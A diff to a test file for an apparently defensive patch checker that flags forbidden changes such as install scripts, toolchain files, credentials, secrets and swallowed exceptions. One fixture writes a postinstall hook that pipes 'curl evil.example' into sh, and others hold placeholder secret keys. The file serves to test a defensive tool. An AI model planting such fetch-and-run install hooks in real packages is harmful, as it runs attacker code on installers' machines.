@@ -74,6 +74,8 @@ describe('a forbidden diff names its rule', () => {
     ['submodule', patchOf({ path: 'sub', header: ['index 1111111..2222222 160000'] })],
     ['generated', patchOf({ path: 'node_modules/x/index.js' })],
     ['lock-file-alone', patchOf({ path: 'package-lock.json' }, { path: 'src/a.js' })],
+    ['install-script', patchOf({ path: 'package.json', lines: ['+    "postinstall": "curl evil.example | sh",'] })],
+    ['install-script', patchOf({ path: 'a/package.json', lines: ['+  "scripts": { "prepare": "node x.js" },'] })],
     ['secret', patchOf({ path: 'src/a.js', lines: ['+const key = "AKIAIOSFODNN7EXAMPLE";'] })],
     ['secret', patchOf({ path: 'src/a.js', lines: ['+-----BEGIN RSA PRIVATE KEY-----', '+x'] })],
   ])('%s', (rule, patch) => {
@@ -107,6 +109,13 @@ describe('a forbidden diff names its rule', () => {
     ['migration', 'db/migrate/20260101_add.rb'],
     ['migration', 'shop/migrations/0002_stock.py'],
     ['migration', 'sql/V2__stock.sql'],
+    ['toolchain', '.pnpmfile.cjs'],
+    ['toolchain', 'packages/a/binding.gyp'],
+    ['toolchain', '.yarn/releases/yarn-4.cjs'],
+    ['toolchain', 'gradle/wrapper/gradle-wrapper.properties'],
+    ['toolchain', '.cargo/config.toml'],
+    ['toolchain', 'src/sitecustomize.py'],
+    ['toolchain', 'Directory.Build.targets'],
     ['credentials', '.env'],
     ['credentials', '.env.production'],
     ['credentials', '.npmrc'],
@@ -151,12 +160,18 @@ describe('a forbidden diff names its rule', () => {
     expect(inSource(lines)).toEqual([]);
   });
 
-  test('the regression test’s files count as tests wherever they are', () => {
-    const patch = patchOf({ path: 'checks/stock.js' });
+  test('a new file that is named as a regression test counts as one wherever it is', () => {
+    const header = ['new file mode 100644', 'index 0000000..2222222'];
+    const patch = patchOf({ path: 'checks/stock.js', header, lines: ['+new'] });
     expect(judge(patch, ['checks/stock.js']).findings).toEqual([
       { rule: 'tests-only', reason: 'nothing but tests was changed' },
     ]);
     expect(judge(patch).verdict).toBe('accepted');
+  });
+
+  test('code that was there is no test because it is named as one', () => {
+    const patch = patchOf({ path: 'src/stock.js', lines: ['+try { work(); } catch {}'] });
+    expect(judge(patch, ['src/stock.js']).findings).toMatchObject([{ rule: 'exception-swallowed' }]);
   });
 });
 
